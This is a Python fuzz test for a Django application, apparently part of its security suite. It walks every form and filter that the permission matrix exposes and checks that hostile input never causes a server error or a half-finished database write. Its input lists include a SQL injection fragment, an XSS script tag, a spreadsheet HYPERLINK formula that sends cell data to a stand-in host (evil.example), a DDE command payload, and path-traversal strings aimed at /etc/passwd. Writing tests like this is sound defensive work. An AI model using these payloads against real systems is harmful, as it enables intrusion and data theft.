"""Hostile input through every GET filter and every form the permission matrix reaches: no 5xx, nothing half-written.

The targets are not a hand list. For every named URL of the permission matrix that a role opens (200), the test
opens the page as that role and collects what a person could send from it: each <form> (its method, action and
fields) and each link's query parameters back to a page. Hypothesis then fills those fields with hostile values —
markup and SQL fragments, Unicode digits (`⁰⁴⁵`, `٤٥`), huge and negative numbers, NaN and infinities, impossible
dates and months, NUL bytes, very long strings, hostile file uploads — mixed with the page's own values so that a
form gets past its first field. An answer of 5xx (or an exception) fails; so does a refused POST (4xx) that left
a row behind.

Runtime is bounded by FUZZ_EXAMPLES (examples per target; default keeps the whole walk around a minute on SQLite).
"""

import logging
import os
import sys
import traceback
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlparse

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.signals import got_request_exception
from django.db import connection
from django.test import Client
from django.urls import Resolver404, resolve, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.security.matrix import all_rows, status_for

ROWS = all_rows()
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "6"))
SKIP_PATHS = ("/static/", "/media/", "/i18n/", "/accounts/", "/admin/")
# Inputs that only steer navigation or the page's language, not data.
SKIP_FIELDS = {"csrfmiddlewaretoken", "next", "language"}

HOSTILE = [
    "",
    " ",
    "0",
    "-1",
    "-0",
    "1e309",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "INF",
    "sNaN",
    "1,5",
    "1.000.000,00",
    "99999999999999999999999999999",
    "-99999999999999999999",
    "2147483648",
    "9223372036854775808",
    "32768",
    "65536",
    "⁰⁴⁵",
    "٤٥",
    "１２",
    "²",
    "0000-00",
    "9999-99",
    "2024-13",
    "2024-02-30",
    "0000-00-00",
    "10000-01-01",
    "2024-1-1",
    "31/02/2024",
    "\x00",
    "a\x00b",
    "\u202e",
    "\ud7ff\ufffd",
    "'; DROP TABLE x; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?d="&B2)',
    "../../etc/passwd",
    "İıŞşĞğ" * 3,
    "x" * 5000,
    "true",
    "on",
    "None",
    "[]",
    "{}",
]

hostile_value = st.one_of(
    st.sampled_from(HOSTILE),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.text(max_size=40),
    st.from_regex(r"\A[0-9]{1,6}-[0-9]{1,3}(-[0-9]{1,3})?\Z"),
)


class _Page(HTMLParser):
    """Forms (method, action, fields) and link query parameters of one page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms, self.links, self._form, self._select = [], [], None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = {"method": (a.get("method") or "get").lower(), "action": a.get("action"), "fields": {}}
            self.forms.append(self._form)
        elif tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif self._form is not None and a.get("name") and a["name"] not in SKIP_FIELDS:
            fields = self._form["fields"]
            if tag == "input":
                kind = (a.get("type") or "text").lower()
                if kind in {"submit", "button", "image", "reset"}:
                    return
                if kind in {"checkbox", "radio"}:
                    fields.setdefault(a["name"], {"kind": kind, "values": []})["values"].append(a.get("value", "on"))
                else:
                    fields[a["name"]] = {"kind": kind, "values": [a.get("value", "")]}
            elif tag == "textarea":
                fields[a["name"]] = {"kind": "text", "values": [""]}
            elif tag == "select":
                self._select = fields[a["name"]] = {"kind": "select", "values": []}
        if tag == "option" and self._select is not None:
            self._select["values"].append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def _targets(client, url):
    """What a person could send from this page: (method, path, {field: spec})."""
    response = client.get(url)
    if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
        return []
    page = _Page()
    page.feed(response.content.decode())
    found = []
    for form in page.forms:
        action = form["action"] or url
        path = urlparse(action).path or urlparse(url).path
        if path.startswith(SKIP_PATHS) or not path.startswith("/"):
            continue
        found.append((form["method"], path, form["fields"]))
    params_by_path = {}
    for href in page.links:
        parsed = urlparse(href.replace("&amp;", "&"))
        if parsed.netloc or not parsed.query or not parsed.path.startswith("/") or parsed.path.startswith(SKIP_PATHS):
            continue
        fields = params_by_path.setdefault(parsed.path, {})
        for name, value in parse_qsl(parsed.query, keep_blank_values=True):
            fields.setdefault(name, {"kind": "text", "values": []})["values"].append(value)
    found += [("get", path, fields) for path, fields in params_by_path.items()]
    return found


def _field_value(spec):
    own = [v for v in spec["values"] if v is not None]
    if spec["kind"] == "file":
        return st.builds(
            lambda content, name: SimpleUploadedFile(name, content),
            st.sampled_from([b"", b"\x00" * 64, b"%PDF-1.4\n%%EOF", b"PK\x03\x04garbage", b"=cmd|' /C calc'!A0"]),
            st.sampled_from(["=cmd.xlsx", "a\x00.pdf", "../../x.pdf", "ş" * 300 + ".jpg", "noext"]),
        )
    if own:
        return st.one_of(st.sampled_from(own), hostile_value)
    return hostile_value


def _data_strategy(fields):
    return st.fixed_dictionaries({name: _field_value(spec) for name, spec in fields.items()})


def _row_counts():
    with connection.cursor() as cursor:
        counts = {}
        for table in connection.introspection.table_names(cursor):
            if table.startswith(("django_session", "sqlite_")):
                continue
            cursor.execute(f'SELECT COUNT(*) FROM "{table}"')
            counts[table] = cursor.fetchone()[0]
        return counts


def _pages_and_roles(world):
    """Every GET page of the matrix that opens (200) for some role, with the roles that open it."""
    pages = []
    for name, (kwargs_builder, spec) in sorted(ROWS.items()):
        if spec["method"] != "get":
            continue
        url = reverse(name, kwargs=kwargs_builder(world.a) if kwargs_builder else None)
        ok = sorted(role for role in spec["ok"] if status_for(role, spec) == 200)
        if ok:
            pages.append((url, ok))
    return pages


def _worth_sending(role, method, path, fields, seen):
    """A POST goes in as each role the matrix lets through (a refused role tests the permission, not the form);
    a public form, open to anyone with the link, once."""
    try:
        match = resolve(path)
    except Resolver404:
        return False
    spec = ROWS.get(match.view_name, (None, None))[1]
    if spec is None:
        return True
    if spec["public"]:
        return not any(k[1:] == (method, path, frozenset(fields)) for k in seen)
    return method == "get" or role in spec["ok"]


def _send(client, method, path, data):
    if method == "post":
        return client.post(path, data)
    return client.get(path, {k: v for k, v in data.items() if not hasattr(v, "read")})


@pytest.fixture
def _quiet_request_log():
    """Thousands of refused requests: their 4xx warnings would be most of the test's time and output."""
    logger = logging.getLogger("django.request")
    level, logger.level = logger.level, logging.ERROR + 1
    yield
    logger.level = level


@pytest.mark.django_db
@pytest.mark.usefixtures("_quiet_request_log")
def test_no_hostile_input_gives_a_5xx_or_half_a_write(matrix_world):
    world = matrix_world
    clients, seen, failures = {}, set(), []
    for url, ok_roles in _pages_and_roles(world):
        for role in ok_roles:
            if role not in clients:
                clients[role] = Client(raise_request_exception=False)
                clients[role].force_login(world.a.users[role])
            client = clients[role]
            for method, path, fields in _targets(client, url):
                key = (role, method, path, frozenset(fields))
                if key in seen or not fields or not _worth_sending(role, method, path, fields, seen):
                    continue
                seen.add(key)
                if os.environ.get("FUZZ_DEBUG"):
                    print("TARGET", role, method, path, sorted(fields), flush=True)
                failure = _fuzz(client, role, method, path, fields)
                if failure:
                    failures.append(failure)
    assert len(seen) > 50, f"the walk reached only {len(seen)} forms and filters"
    assert not failures, "\n".join(failures)


_LAST_ERROR = []


def _remember_exception(sender, request=None, **kwargs):
    kind, error, tb = sys.exc_info()
    frame = traceback.extract_tb(tb)[-1] if tb else None
    _LAST_ERROR[:] = [f"{kind.__name__}: {str(error)[:120]} at {frame.filename}:{frame.lineno}" if frame else ""]


got_request_exception.connect(_remember_exception)


def _fuzz(client, role, method, path, fields):
    problem = []

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(_data_strategy(fields))
    def submit(data):
        before = _row_counts() if method == "post" else None
        for value in data.values():
            if hasattr(value, "seek"):
                value.seek(0)
        response = _send(client, method, path, data)
        shown = {k: (v.name if hasattr(v, "read") else v[:80]) for k, v in data.items()}
        assert response.status_code < 500, (
            f"{role} {method.upper()} {path} {shown} → {response.status_code} {_LAST_ERROR[-1:] or ''}"
        )
        if before is not None and response.status_code >= 400:
            after = _row_counts()
            changed = {t: (before.get(t), n) for t, n in after.items() if before.get(t) != n}
            assert not changed, f"{role} POST {path} {shown} → {response.status_code} but wrote {changed}"

    try:
        submit()
    except AssertionError as error:
        problem.append(str(error).splitlines()[0])
    return problem[0] if problem else None
